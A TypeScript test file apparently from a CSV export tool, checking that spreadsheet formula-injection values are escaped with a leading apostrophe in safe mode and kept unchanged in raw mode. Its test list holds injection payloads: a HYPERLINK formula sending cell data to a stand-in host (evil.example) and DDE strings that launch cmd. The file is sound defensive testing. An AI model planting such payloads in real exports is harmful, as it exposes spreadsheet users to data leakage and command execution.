import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { settingResult, sweepResult } from "../../../test/helpers/sweep-result.js";
import { csvText } from "./csv.js";
import { recordsCsv } from "./report.js";
import { sweepCsv } from "./sweep-csv.js";

const SAFE = { raw: false };
const RAW = { raw: true };
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "-0.5 points",
  "--1",
];

describe("CSV for spreadsheets", () => {
  it.each(FORMULAS)("%j is a text, also as a heading; raw it is what it was", (text) => {
    expect(parse(csvText([[text], ["a", text]], SAFE), { relax_column_count: true })).toEqual([[`'${text}`], ["a", `'${text}`]]);
    expect(parse(csvText([["a", text]], RAW))).toEqual([["a", text]]);
  });

  it.each([-0.5, -1e-9, "-0.5", "+1", "-3", "-1e-9", ".5", "-.5", "a=1", "1-2", "'=1", "me@example.org", "", true])(
    "%j stays as it is",
    (value) => {
      expect(parse(csvText([["a", value]], SAFE))).toEqual([["a", String(value)]]);
    },
  );

  it("holds for metrics below zero, settings and records alike", () => {
    const metrics = { accuracy: { mean: -0.25, low: -0.5, high: 0, n: 4 } };
    const sweep = (form: typeof SAFE) =>
      parse<Record<string, string>>(
        sweepCsv(sweepResult({ settings: [settingResult(0, 0, { params: { stop: "=1+1", top: -2 }, metrics })] }), form),
        {
          columns: true,
        },
      )[0];
    expect(sweep(SAFE)).toMatchObject({ stop: "'=1+1", top: "-2", accuracy: "-0.25", accuracy_ci_low: "-0.5" });
    expect(sweep(RAW)).toMatchObject({ stop: "=1+1" });
    expect(parse(recordsCsv([{ "=a": "@b", c: -1 }], SAFE))).toEqual([
      ["'=a", "c"],
      ["'@b", "-1"],
    ]);
  });
});
